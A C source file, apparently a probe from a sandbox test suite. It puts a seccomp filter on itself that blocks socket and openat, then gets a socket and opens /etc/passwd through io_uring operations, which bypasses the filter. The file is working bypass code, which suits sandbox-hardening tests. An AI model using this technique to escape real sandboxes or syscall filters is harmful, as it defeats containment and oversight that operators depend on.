// Puts a filter on itself that refuses socket, openat and openat2, and then asks io_uring for a socket and a
// file: what a ring does is no system call, so no filter sees it.

#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#define REFUSE(number)                                                      \
  BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, number, 0, 1),                        \
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM)

static long refuse_sockets_and_files(void) {
  struct sock_filter instructions[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
      REFUSE(SYS_socket),
      REFUSE(SYS_openat),
      REFUSE(SYS_openat2),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof instructions / sizeof instructions[0], instructions};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0) return -errno;
  return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0) < 0 ? -errno : 0;
}

/// Makes one operation by a ring of its own and answers its result.
static long by_ring(const struct io_uring_sqe *operation) {
  struct io_uring_params parameters = {0};
  int ring = (int)syscall(SYS_io_uring_setup, 1, &parameters);
  if (ring < 0) return -errno;
  size_t length = parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe);
  char *queues = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *submissions =
      mmap(NULL, sizeof *submissions, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (queues == MAP_FAILED || submissions == MAP_FAILED) return -errno;

  submissions[0] = *operation;
  ((uint32_t *)(queues + parameters.sq_off.array))[0] = 0;
  __atomic_store_n((uint32_t *)(queues + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  return ((struct io_uring_cqe *)(queues + parameters.cq_off.cqes))[0].res;
}

int main(void) {
  attack_begin("io-uring");
  if (refuse_sockets_and_files() < 0) return 1;
  // The filter is in force: what the ring gets is not had by a call.
  if (socket(AF_INET, SOCK_STREAM, 0) >= 0 || openat(AT_FDCWD, "/etc/passwd", O_RDONLY) >= 0) return 1;

  struct io_uring_sqe operation = {.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM};
  attack_way("socket by ring", by_ring(&operation));
  operation = (struct io_uring_sqe){
      .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)"/etc/passwd", .open_flags = O_RDONLY};
  attack_way("open by ring", by_ring(&operation));
  attack_end();
}
